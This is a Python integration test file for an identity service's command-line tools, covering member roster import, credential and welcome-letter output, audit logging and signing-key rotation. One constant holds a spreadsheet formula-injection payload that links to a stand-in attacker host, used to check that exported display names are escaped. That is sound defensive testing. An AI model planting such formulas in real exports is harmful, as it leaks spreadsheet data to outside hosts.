import csv
import stat
from datetime import UTC, datetime

import jwt
import pytest
from habitat_identity.adapters.orm import audit_log, member, signing_key
from habitat_identity.entrypoints.cli import main
from sqlalchemy import func, select, update

from tests.integration.conftest import a_stored_member, in_thread

pytestmark = pytest.mark.integration
ROSTER = "email,display_name,role\nada@example.org,Ada King,steward\nbob@example.org,Bob Smith,member\n"
EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"Open")'



def cli(settings, *argv: str) -> int:
    return in_thread(main, list(argv), settings)


async def count(app, table) -> int:
    async with app.state.container.session_factory() as session:
        return await session.scalar(select(func.count()).select_from(table))


class TestImportMembersCli:
    async def test_writes_owner_only_credentials_and_welcome_emails_then_changes_nothing(
        self, app, settings, tmp_path, capsys
    ):
        roster, credentials, welcome = tmp_path / "roster.csv", tmp_path / "credentials.csv", tmp_path / "welcome"
        roster.write_text(ROSTER)
        assert cli(settings, "import-members", str(roster), "--dry-run") == 0
        assert await count(app, member) == 0 and "2 created, 0 updated, 0 unchanged (dry run" in capsys.readouterr().out

        argv = ["import-members", str(roster), "--credentials-out", str(credentials), "--welcome-dir", str(welcome)]
        assert cli(settings, *argv) == 0
        assert stat.S_IMODE(credentials.stat().st_mode) == 0o600
        with credentials.open() as file:
            rows = list(csv.DictReader(file))
        assert [(r["email"], r["display_name"]) for r in rows] == [
            ("ada@example.org", "Ada King"),
            ("bob@example.org", "Bob Smith"),
        ]
        letter = (welcome / "ada@example.org.txt").read_text()
        assert rows[0]["temporary_password"] in letter and sorted(p.name for p in welcome.iterdir()) == [
            "ada@example.org.txt",
            "bob@example.org.txt",
        ]
        assert await count(app, member) == 2

        credentials.unlink()
        assert cli(settings, *argv) == 0
        assert "0 created, 0 updated, 2 unchanged" in capsys.readouterr().out and not credentials.exists()

    async def test_a_formula_in_a_display_name_is_written_to_the_credentials_file_as_text(self, app, settings, tmp_path):
        roster, credentials = tmp_path / "roster.csv", tmp_path / "credentials.csv"
        with roster.open("w", newline="") as file:
            csv.writer(file).writerows([("email", "display_name", "role"), ("eve@example.org", EVIL, "member"),
                                        ("dan@example.org", "-Dan @home", "member")])
        assert cli(settings, "import-members", str(roster), "--credentials-out", str(credentials)) == 0
        with credentials.open(newline="") as file:
            rows = list(csv.DictReader(file))
        assert [(r["email"], r["display_name"]) for r in rows] == [
            ("eve@example.org", "'" + EVIL), ("dan@example.org", "'-Dan @home"),
        ]
        assert not any(r["temporary_password"].startswith("'") for r in rows)  # passwords are copied verbatim

    async def test_errors_are_printed_as_file_line_column_and_exit_1(self, app, settings, tmp_path, capsys):
        roster = tmp_path / "bad.csv"
        roster.write_text(ROSTER + "carol@example.org,Carol,boss\n")
        assert cli(settings, "import-members", str(roster)) == 1
        assert f"{roster}:4:3: Unknown role 'boss'" in capsys.readouterr().err
        assert await count(app, member) == 0

    async def test_actor_email_is_recorded_in_the_audit_log(self, app, settings, tmp_path):
        admin, _ = await a_stored_member(app, role="admin")
        roster = tmp_path / "roster.csv"
        roster.write_text(ROSTER)
        assert cli(settings, "import-members", str(roster), "--actor-email", admin.email.upper()) == 0
        async with app.state.container.session_factory() as session:
            actors = set(
                (
                    await session.execute(
                        select(audit_log.c.actor_id).where(audit_log.c.action != "member.created").distinct()
                    )
                ).scalars()
            )
        assert actors == {admin.id}


class TestRotateSigningKey:
    async def test_old_tokens_verify_until_the_old_key_retires(self, app, client, settings):
        stored, temporary = await a_stored_member(app)
        before = (await client.post("/auth/login", json={"email": stored.email, "password": temporary})).json()
        old_kid = jwt.get_unverified_header(before["access_token"])["kid"]

        assert cli(settings, "rotate-signing-key") == 0
        jwks = (await client.get("/.well-known/jwks.json")).json()
        kids = [key["kid"] for key in jwks["keys"]]
        assert old_kid in kids and len(kids) == 2
        jwt.decode(
            before["access_token"],
            jwt.PyJWKSet.from_dict(jwks)[old_kid].key,
            algorithms=["EdDSA"],
            audience="habitat",
            issuer="habitat-identity",
        )
        assert (
            await client.get("/me", headers={"Authorization": f"Bearer {before['access_token']}"})
        ).status_code == 200
        after = (await client.post("/auth/login", json={"email": stored.email, "password": temporary})).json()
        new_kid = jwt.get_unverified_header(after["access_token"])["kid"]
        assert new_kid != old_kid and new_kid in kids

        async with app.state.container.session_factory() as session, session.begin():
            retired_at = await session.scalar(select(signing_key.c.retired_at).where(signing_key.c.kid == old_kid))
            assert 900 < (retired_at - datetime.now(UTC)).total_seconds() <= 960  # access-token TTL + 60 s
            await session.execute(update(signing_key).where(signing_key.c.kid == old_kid).values(retired_at=func.now()))
        published = [key["kid"] for key in (await client.get("/.well-known/jwks.json")).json()["keys"]]
        assert published == [new_kid]
